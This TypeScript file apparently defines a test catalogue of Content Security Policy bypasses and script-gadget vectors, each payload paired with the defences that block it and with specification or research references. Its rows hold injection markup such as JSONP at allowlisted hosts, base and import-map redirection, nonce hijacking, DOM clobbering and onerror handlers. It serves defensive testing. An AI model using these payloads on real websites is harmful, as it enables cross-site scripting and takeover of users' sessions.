import type { Defence, Vector, VectorFile } from './vector.ts';

const DEAD_CSP =
  'https://research.google/pubs/csp-is-dead-long-live-csp-on-the-insecurity-of-whitelists-and-the-future-of-content-security-policy/';
const CSP3 = 'https://www.w3.org/TR/CSP3/';
const GADGETS = 'https://github.com/google/security-research-pocs/tree/master/script-gadgets';
const SCRIPT: VectorFile = { name: 'script.js', type: 'text/javascript', text: '{run}' };
const JSONP: VectorFile = { name: 'jsonp.js', type: 'text/javascript', text: '{run}({"a":1})' };
const EVALUATOR: VectorFile = {
  name: 'evaluator.js',
  type: 'text/javascript',
  text: "addEventListener('DOMContentLoaded',()=>document.querySelectorAll('[x-if]').forEach((e)=>Function(e.getAttribute('x-if'))()))",
};

type Row = readonly [
  id: string,
  idea: string,
  place: string,
  payload: string,
  blockedBy: readonly Defence[],
  references: readonly string[],
  more?: Partial<Vector>,
];

/** Markup that gets around a policy that looks as if it forbade it. */
const BYPASSES: readonly Row[] = [
  [
    'C01',
    'an answer with a callback (JSONP) at a host that the policy lists',
    'text',
    '<script src="{listed}jsonp.js"></script>',
    ['encoding', 'script-src'],
    [DEAD_CSP],
    { foreignFiles: [JSONP] },
  ],
  [
    'C02',
    'a library that evaluates expressions of the page, at a host that the policy lists',
    'text',
    '<script src="{listed}evaluator.js"></script><b x-if="{run}"></b>',
    ['encoding', 'script-src', 'no-unsafe-eval', 'trusted-types'],
    [DEAD_CSP, GADGETS],
    { foreignFiles: [EVALUATOR] },
  ],
  [
    'C03',
    'a base element that sends relative addresses of scripts elsewhere',
    'before-scripts',
    '<base href="{foreign}{token}/">',
    ['encoding', 'base-uri'],
    [`${CSP3}#directive-base-uri`],
    { proof: 'request' },
  ],
  [
    'C04',
    'a nonce that was the same in an earlier answer',
    'text',
    '<script nonce="{known-nonce}">{run}</script>',
    ['encoding', 'strict-nonce'],
    [`${CSP3}#security-nonces`],
  ],
  [
    'C05',
    'a script that somebody uploaded to the application',
    'text',
    '<script src="{app}up/a.js"></script>',
    ['encoding', 'script-src'],
    [`${CSP3}#directive-script-src`],
    { uploads: [{ name: 'a.js', type: 'text/javascript', text: '{run}' }] },
  ],
  [
    'C06',
    'a script in a data: URL',
    'text',
    '<script src="data:text/javascript,{run}"></script>',
    ['encoding', 'script-src'],
    [CSP3],
  ],
  [
    'C15',
    'an import map that sends a module elsewhere',
    'before-scripts',
    '<script type=importmap>{"imports":{"{app}lib.js":"{foreign}module.js"}}</script>',
    ['encoding', 'script-src'],
    ['https://html.spec.whatwg.org/multipage/webappapis.html#import-maps'],
    { foreignFiles: [{ name: 'module.js', type: 'text/javascript', text: '{run};export default 1' }] },
  ],
  [
    'C17',
    'a module that somebody uploaded to the application',
    'text',
    '<script type=module src="{app}up/a.js"></script>',
    ['encoding', 'script-src'],
    [CSP3],
    { uploads: [{ name: 'a.js', type: 'text/javascript', text: '{run};export default 1' }] },
  ],
  [
    'C18',
    'a script tag that is not closed, and swallows the nonce of the next one',
    'before-script',
    '<script src="{foreign}script.js" x=',
    ['encoding', 'script-src'],
    [`${CSP3}#security-nonce-hijacking`],
    { foreignFiles: [SCRIPT] },
  ],
  [
    'C19',
    'a script of SVG with a data: URL',
    'text',
    '<svg><script href="data:text/javascript,{run}"></script></svg>',
    ['encoding', 'script-src'],
    [CSP3],
  ],
  [
    'C20',
    'a script of SVG from another origin',
    'text',
    '<svg><script href="{foreign}script.js"></script></svg>',
    ['encoding', 'script-src'],
    [CSP3],
    { foreignFiles: [SCRIPT] },
  ],
  [
    'C21',
    'a script from another origin',
    'text',
    '<script src="{foreign}script.js"></script>',
    ['encoding', 'script-src'],
    [CSP3],
    { foreignFiles: [SCRIPT] },
  ],
  [
    'C22',
    'a module from another origin',
    'text',
    '<script type=module src="{foreign}script.js"></script>',
    ['encoding', 'script-src'],
    [CSP3],
    { foreignFiles: [SCRIPT] },
  ],
  [
    'C23',
    'an upload of plain text, loaded as a script',
    'text',
    '<script src="{app}up/notes.txt"></script>',
    ['encoding', 'script-src', 'nosniff'],
    ['https://fetch.spec.whatwg.org/#x-content-type-options-header'],
    { uploads: [{ name: 'notes.txt', type: 'text/plain', text: '{run}' }] },
  ],
  [
    'C24',
    'a script of a frame that has no address, and the policy of the page',
    'text',
    '<iframe srcdoc="&lt;script src=&quot;{foreign}script.js&quot;>&lt;/script>"></iframe>',
    ['encoding', 'script-src'],
    [CSP3],
    { foreignFiles: [SCRIPT] },
  ],
  [
    'C25',
    'a script by way of a redirect of the application',
    'text',
    '<script src="{app}go?{foreign}script.js"></script>',
    ['encoding', 'script-src'],
    [`${CSP3}#source-list-paths-and-redirects`],
    { foreignFiles: [SCRIPT] },
  ],
];

/** The application's own, well-meaning code, steered by markup without a script. */
const GADGET_ROWS: readonly Row[] = [
  [
    'C07',
    'an attribute with an expression, which the application evaluates',
    'gadget:expression',
    '<b data-if="{run}"></b>',
    ['encoding', 'no-unsafe-eval', 'trusted-types'],
    [GADGETS],
  ],
  [
    'C08',
    'an attribute with HTML, which the application shows',
    'gadget:html',
    '<b data-html="&lt;img src=x: onerror={run}>"></b>',
    ['encoding', 'script-src', 'trusted-types'],
    [GADGETS],
  ],
  [
    'C09',
    'an attribute with an address, from which the application loads a script',
    'gadget:script',
    '<b data-script="{foreign}script.js"></b>',
    ['encoding', 'trusted-types', 'no-strict-dynamic'],
    [GADGETS],
    { foreignFiles: [SCRIPT] },
  ],
  [
    'C10',
    'elements whose names stand in for a variable with the address of a script',
    'gadget:clobber',
    '<a id=settings></a><a id=settings name=address href="{foreign}script.js"></a>',
    ['encoding', 'trusted-types', 'no-strict-dynamic'],
    ['https://html.spec.whatwg.org/multipage/nav-history-apis.html#named-access-on-the-window-object'],
    { foreignFiles: [SCRIPT] },
  ],
  [
    'C26',
    'an image that stands in for document.currentScript, by which bundles find their parts',
    'gadget:current-script',
    '<img name=currentScript src="{foreign}">',
    ['encoding', 'trusted-types', 'no-strict-dynamic'],
    ['https://github.com/webpack/webpack/security/advisories/GHSA-4vvj-4cpr-p986'],
    { foreignFiles: [{ ...SCRIPT, name: 'part.js' }] },
  ],
  [
    'C27',
    'an attribute with the name of a template of the page',
    'gadget:template',
    '<template id=t><img src=x: onerror={run}></template><b data-template=t></b>',
    ['encoding', 'script-src'],
    [GADGETS],
  ],
  [
    'C28',
    'an attribute with a handler for the application, by name and code',
    'gadget:handler',
    '<b data-on="load" data-do="{run}"></b>',
    ['encoding', 'no-unsafe-eval', 'trusted-types'],
    [GADGETS],
  ],
];

export const POLICY_BYPASS: readonly Vector[] = [
  ...BYPASSES.map((row) => vector(row, 'csp-bypass')),
  ...GADGET_ROWS.map((row) => vector(row, 'gadget')),
];

function vector([id, idea, place, payload, blockedBy, references, more = {}]: Row, of: Vector['class']): Vector {
  return { id, class: of, idea, place, payload, proof: 'page', blockedBy, references, ...more };
}
